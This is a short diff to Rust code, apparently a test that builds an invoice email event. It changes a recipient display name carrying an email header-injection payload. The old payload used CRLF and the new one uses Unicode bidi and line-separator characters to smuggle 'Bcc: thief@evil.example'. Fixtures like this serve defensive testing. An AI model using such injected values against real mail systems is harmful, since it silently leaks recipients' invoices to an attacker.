@@ -152,7 +152,7 @@ impl Night {
             InvoiceKind::Invoice,
             vec![Line::new("Simkaart", 1, Unit::Piece, 99_000)],
         );
-        let recipients = vec![to(catalogue::ZOE.mail, Some("Zoë\r\nBcc: thief@evil.example"))];
+        let recipients = vec![to(catalogue::ZOE.mail, Some("Zoë\u{202e}\u{2028}Bcc: thief@evil.example"))];
         let event =
             self.event(&bill, "invoice-7004", &[Paper::pdf(&bill)], &Extras { recipients, ..Extras::default() });
         self.publish(
